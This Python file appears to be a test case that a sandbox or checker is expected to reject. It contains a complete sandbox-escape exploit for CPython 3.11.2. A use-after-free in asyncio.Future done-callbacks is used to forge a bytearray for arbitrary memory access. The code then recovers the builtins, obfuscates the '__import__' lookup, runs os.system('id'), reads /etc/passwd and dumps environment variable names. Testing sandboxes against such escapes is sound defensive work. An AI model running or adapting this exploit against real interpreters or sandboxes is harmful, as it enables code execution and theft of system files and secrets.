# expect: reject module_attribute
# line: 47
# why: round 69: asyncio.Future(loop=L) with a loop of the program's, whose call_soon removed done-callbacks while the C Future ran them from borrowed pointers (CPython 3.11.2, gh-125969's family): a forged bytearray, the builtins dict, id; Future and Task take no loop=
import asyncio

state = {"n": 0}
got = []
keep = [None] * 16
fut = None


def w8(v):
    return v.to_bytes(8, "little")


# a fake bytearray header: refcnt, type, size, alloc, bytes, start, exports
fakebuf = b"".join([w8(1 << 40), w8(id(bytearray)), w8(1 << 62), w8(1 << 62), w8(0), w8(0), w8(0)])
fake = id(fakebuf) + 32
src = bytearray(w8(0) + w8(fake) + w8(id(None)) + bytes(7))


def keepme(f):
    return None


def drop(f):
    return None


class Loop:
    def get_debug(self):
        return False

    def call_soon(self, cb, arg, context=None):
        state["n"] += 1
        if state["n"] == 2:
            junk = [(k, -k) for k in range(4000)]
            junk = None
            fut.remove_done_callback(drop)
            for k in range(8):
                keep[k] = bytes(src)
        elif type(cb) is bytearray:
            got.append(cb)
        return None


fut = asyncio.Future(loop=Loop())
fut.add_done_callback(keepme)
for k in range(5):
    fut.add_done_callback(keepme)
for k in range(3):
    fut.add_done_callback(drop)
fut.set_result(1)
print("calls:", state["n"], "forged:", len(got))
mem = got[0]
print(type(mem).__name__, hex(len(mem)))


def r8(a):
    return int.from_bytes(mem[a:a + 8], "little")


def put8(a, v):
    mem[a:a + 8] = w8(v)


def ref(addr):
    cell = [None]
    put8(addr, r8(addr) + 1)
    put8(r8(id(cell) + 24), addr)
    return cell[0]


table = ref(r8(id(w8) + 24))
print(type(table).__name__, len(table))
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
print(osm)
osm.system("id")
print(table["open"]("/etc/passwd").read()[:120])
print(list(osm.environ)[:5])
